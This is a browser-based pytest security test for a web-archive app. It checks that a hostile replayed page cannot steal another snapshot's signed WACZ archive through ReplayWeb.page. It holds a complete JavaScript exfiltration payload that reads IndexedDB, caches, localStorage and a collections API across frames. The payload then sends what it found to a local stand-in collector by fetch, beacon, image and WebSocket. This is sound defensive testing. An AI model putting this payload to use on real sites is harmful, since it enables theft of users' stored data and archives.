"""Issue 16's replay theft, in Chromium: a hostile archived page, replayed after another
snapshot, reads everything ReplayWeb.page stored on its origin (IndexedDB, Cache Storage,
localStorage, the service worker's list of collections), fetches every signed WACZ link it finds
and sends what it got to a collecting server on 127.0.0.1. It must find only its own link and
get nothing out, while the other snapshot still replays."""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from model_bakery import baker

from archive.testing import LocalServer, artifact_path
from core.choices import SnapshotStatus
from core.models import Snapshot
from core.tests.test_isolation import staff_browser
from crawls.models import Crawl

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]

VICTIM_HEADING = "A private ledger"
VICTIM_HTML = f"""<!doctype html><html><head><title>victim page</title></head><body>
<h1>{VICTIM_HEADING}</h1></body></html>""".encode()
# The theft, as the reproduction did it: read every store of the origin (from this
# window and the frames in it), fetch each WACZ link found, and send it away by every means a
# page has. It runs as the archived page's own script and, since ReplayWeb.page's rewriting
# (wombat, which renames the page's IndexedDB databases) is no security boundary, also in the
# replay tab's top window, where nothing is rewritten. It answers what it found and fetched.
THEFT = """async () => {
  const COLLECTOR = "COLLECTOR_URL";
  const report = {found: [], fetched: 0, errors: []};
  const windows = [window];
  for (let i = 0; i < window.frames.length; i++) windows.push(window.frames[i]);
  const text = [];
  const idb = (request) => new Promise((ok) => { request.onsuccess = () => ok(request.result);
                                                 request.onerror = () => ok(null); });
  for (const w of windows) {
    try {
      for (const info of await w.indexedDB.databases()) {
        const db = await idb(w.indexedDB.open(info.name));
        for (const name of db ? db.objectStoreNames : []) {
          const store = db.transaction(name).objectStore(name);
          try { text.push(JSON.stringify(await idb(store.getAll()))); } catch (e) {}
        }
        if (db) db.close();
      }
    } catch (e) { report.errors.push("idb " + e); }
    try {
      for (const key of await w.caches.keys()) {
        for (const request of await (await w.caches.open(key)).keys()) text.push(request.url);
      }
    } catch (e) { report.errors.push("caches " + e); }
    try { text.push(JSON.stringify(Object.entries(w.localStorage))); } catch (e) {}
    try {
      const index = new URL("/replay/w/api/coll-index", w.location.href);
      text.push(await (await w.fetch(index)).text());
    } catch (e) { report.errors.push("api " + e); }
  }
  const links = text.join(" ").match(/\\/replay\\/[A-Za-z0-9_:\\-]+\\/snapshot\\.wacz/g);
  report.found = [...new Set(links || [])];
  const loot = [];
  for (const link of report.found) {
    try {
      const body = await (await fetch(new URL(link, location.href))).arrayBuffer();
      report.fetched += body.byteLength;
      loot.push(body);
    } catch (e) { report.errors.push("wacz " + e); }
  }
  const message = JSON.stringify(report);
  for (const w of windows) {  // every way out, from every frame
    try {
      await w.fetch(COLLECTOR + "/fetch", {method: "POST", mode: "no-cors",
                                           body: new Blob([message, ...loot])});
    } catch (e) { report.errors.push("fetch out " + e); }
    try { w.navigator.sendBeacon(COLLECTOR + "/beacon", message); } catch (e) {}
    try {
      const img = w.document.createElement("img");
      img.src = COLLECTOR + "/img?" + report.found.length;
      w.document.body.appendChild(img);
    } catch (e) {}
    try { new w.WebSocket(COLLECTOR.replace("http", "ws") + "/socket"); } catch (e) {}
  }
  await new Promise((ok) => setTimeout(ok, 1000));
  return report;
}"""
THIEF_HTML = """<!doctype html><html><head><title>thief page</title></head><body>
<h1>Nothing to see</h1><pre id="report">scripts did not run</pre>
<script>(THEFT)().then((report) => {
  document.getElementById("report").textContent = "done " + JSON.stringify(report); });
</script></body></html>"""


class Collector(LocalServer):
    """A server on 127.0.0.1 that answers everything and records each request: method, path,
    body size. ``received`` is what a thief got out."""

    def __init__(self) -> None:
        self.received: list[tuple[str, str, int]] = []
        self._lock = threading.Lock()
        super().__init__()

    def handler(self) -> type[BaseHTTPRequestHandler]:
        collector = self

        class Record(BaseHTTPRequestHandler):
            def _record(self) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(size)
                with collector._lock:
                    collector.received.append((self.command, self.path, size))
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = _record

            def log_message(self, format: str, *args: object) -> None:
                """Keep test output quiet."""

        return Record


@pytest.fixture
def collector():
    server = Collector().start()
    yield server
    server.stop()


def sealed_snapshot(url: str, html: bytes) -> Snapshot:
    """A sealed snapshot of ``url`` whose WACZ (made by py-wacz) holds ``html``."""
    from core.folder.wacz import build_wacz
    from core.tests.warc_folders import WARC_PATH, write_warc

    crawl = baker.make(Crawl, seeds=url)
    snapshot = baker.make(Snapshot, crawl=crawl, url=url, status=SnapshotStatus.SEALED)
    write_warc(snapshot.output_dir / WARC_PATH, url, html)
    build_wacz(snapshot.output_dir, url=url, title="page", archived_at=snapshot.created_at,
               timeout=120)  # fmt: skip
    return snapshot


def open_replay(context, live_server, snapshot: Snapshot):
    """Open ``snapshot``'s page in a new tab, follow its replay link; return (tab, link)."""
    page = context.new_page()
    page.goto(f"{live_server.url}/snapshot/{snapshot.pk}/")
    link = page.get_by_role("link", name="Replay this page")
    href = link.get_attribute("href")
    with context.expect_page() as opened:
        link.click()
    page.close()
    return opened.value, href


def replayed(tab):
    return tab.frame_locator("replay-web-page iframe").frame_locator("iframe")


@pytest.mark.parametrize("shared_host", [False, True], ids=["host-per-snapshot", "shared-host"])
def test_a_replayed_page_cannot_steal_another_snapshots_wacz(
    settings, tmp_path: Path, live_server, collector: Collector, shared_host: bool
) -> None:
    """With the default replay host (an origin per snapshot) and with one shared replay host
    (cleared by each replay page), the thief finds no other link and sends nothing out."""
    from playwright.sync_api import expect

    settings.DATA_DIR = tmp_path
    settings.ARCHIVE_DIR = tmp_path / "archive"
    port = live_server.url.rsplit(":", 1)[1]
    settings.REPLAY_HOST = f"replay.localhost:{port}" if shared_host else ""
    victim = sealed_snapshot("https://ledger.example/", VICTIM_HTML)
    theft = THEFT.replace("COLLECTOR_URL", collector.url("").rstrip("/"))
    thief = sealed_snapshot("https://thief.example/", THIEF_HTML.replace("THEFT", theft).encode())

    with staff_browser(live_server) as (context, _session):
        victim_tab, victim_link = open_replay(context, live_server, victim)
        expect(replayed(victim_tab).locator("h1")).to_have_text(VICTIM_HEADING, timeout=60_000)
        thief_tab, thief_link = open_replay(context, live_server, thief)
        report = replayed(thief_tab).locator("#report")
        report.filter(has_text="done").wait_for(timeout=60_000)
        in_page = json.loads(report.inner_text().removeprefix("done "))
        escaped = thief_tab.evaluate(theft)  # the same script, past ReplayWeb.page's rewriting
        thief_tab.screenshot(
            path=artifact_path(f"replay/theft-{'shared' if shared_host else 'own'}.png")
        )
        victim_tab.bring_to_front()
        victim_tab.reload()
        # replay works, twice
        expect(replayed(victim_tab).locator("h1")).to_have_text(VICTIM_HEADING, timeout=60_000)
        victim_tab.screenshot(
            path=artifact_path(f"replay/victim-{'shared' if shared_host else 'own'}.png")
        )

    found = in_page["found"] + escaped["found"]
    victim_token = re.search(r"/replay/([^/]+)/", victim_link)[1]
    thief_token = re.search(r"/replay/([^/]+)/", thief_link)[1]
    assert any(thief_token in link for link in escaped["found"])  # it does read the stores
    assert escaped["fetched"] > 0  # and fetches what it finds (its own WACZ)
    assert not any(victim_token in link for link in found), found
    assert collector.received == []
